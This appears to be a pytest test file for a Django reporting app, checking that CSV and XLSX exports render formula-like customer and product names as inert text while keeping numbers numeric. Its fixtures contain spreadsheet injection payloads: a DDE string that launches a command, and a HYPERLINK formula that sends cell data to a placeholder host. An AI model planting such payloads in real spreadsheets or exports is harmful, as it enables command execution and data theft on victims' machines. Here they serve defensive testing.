"""Names that look like formulas reach every CSV and XLSX export as text; numbers stay numbers."""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.catalogue import REPORTS
from sales.models import Customer
from sales.services import record_payment

pytestmark = pytest.mark.django_db

NAMES = ["=1+2", '=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
YEAR = {"preset": "this_year"}


@pytest.fixture
def formula_customers(plant, staff_user, manager_user):
    plant.buy(manager_user, (plant.bottle, 100, "3.00"))
    plant.bottle.sku, plant.bottle.name = "=B500", "=cmd|' /C calc'!A0"
    plant.bottle.save()
    for name in NAMES:
        customer = Customer.objects.create(name=name)
        plant.sell(staff_user, (plant.bottle, 2, "6.00"), customer=customer)
    # Paid more than billed: a negative amount owed, which must stay a number.
    record_payment(
        by=staff_user, customer=Customer.objects.get(name="+1"), amount=Decimal("17.00"), method="cash"
    )


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]


def _assert_csv_is_inert(cells: list[str]) -> None:
    risky = [c for c in cells if c.startswith(STARTS) and not _is_number(c)]
    assert risky == []
    for name in NAMES:
        assert f"'{name}" in cells, name


def test_csv_exports_write_formula_like_text_as_text_and_keep_numbers(formula_customers, manager_client):
    for name in REPORTS:
        response = manager_client.get(reverse(f"reporting:{name}"), {**YEAR, "export": "csv"})
        assert response.status_code == 200, name
        cells = _csv_cells(b"".join(response.streaming_content))
        assert [c for c in cells if c.startswith(STARTS) and not _is_number(c)] == [], name
    customers = manager_client.get(reverse("reporting:customer-sales"), {**YEAR, "export": "csv"})
    cells = _csv_cells(b"".join(customers.streaming_content))
    _assert_csv_is_inert(cells)
    assert "-17.00" in cells or "-5.00" in cells  # the overpaid customer's balance: a plain number

    lines = manager_client.get(reverse("reporting:bill-lines"), YEAR)
    cells = _csv_cells(b"".join(lines.streaming_content))
    _assert_csv_is_inert(cells)
    assert "'=B500" in cells


def test_xlsx_exports_hold_no_formula_and_keep_numbers_numeric(formula_customers, manager_client):
    for name in REPORTS:
        response = manager_client.get(reverse(f"reporting:{name}"), {**YEAR, "export": "xlsx"})
        assert response.status_code == 200, name
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (name, cell.coordinate)

    response = manager_client.get(reverse("reporting:customer-sales"), {**YEAR, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    # The names themselves, unchanged (XML reads a carriage return back as a line feed).
    assert {r[0] for r in rows} >= {name.replace("\r", "\n") for name in NAMES}
    for row in rows:
        assert all(isinstance(v, int | float) for v in row[1:8]), row
    assert any(v < 0 for row in rows for v in row[1:8]), rows  # a negative number is still a number
